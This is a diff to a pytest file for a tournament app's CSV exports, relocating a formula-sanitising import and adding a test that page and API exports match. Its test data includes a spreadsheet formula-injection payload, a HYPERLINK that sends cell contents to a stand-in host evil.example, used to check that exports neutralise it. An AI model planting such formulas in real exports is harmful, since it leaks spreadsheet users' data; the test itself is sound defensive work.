@@ -7,9 +7,9 @@ from fractions import Fraction
 
 import pytest
 
-from config.csv_export import FORMULA_TRIGGERS, safe_cell
 from players.models import Player
 from tests.conftest import api_as
+from tournaments.csv_exports import FORMULA_TRIGGERS, safe_cell
 
 DANGEROUS_NAMES = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -71,3 +71,23 @@ def test_every_export_neutralises_formula_names(make_running_round, tournament, 
             assert "'" + name in cells, (label, name)
         for cell in cells:
             assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell), (label, cell)
+
+
+@pytest.mark.django_db
+def test_page_and_api_export_the_same_table(make_running_round, tournament, organiser):
+    round_ = make_running_round(players=6)
+    client = api_as(organiser)
+    same = {
+        "standings": (
+            f"/tournaments/{tournament.pk}/standings.csv",
+            f"/api/tournaments/{tournament.pk}/standings/csv/",
+        ),
+        "pairings": (
+            f"/tournaments/{tournament.pk}/rounds/{round_.number}/pairings.csv",
+            f"/api/tournaments/{tournament.pk}/pairings/csv/?round={round_.number}",
+        ),
+    }
+    for label, (page, api) in same.items():
+        page_rows = _cells(client.get(page))
+        assert page_rows == _cells(client.get(api)), label
+        assert len(page_rows) > 1, label
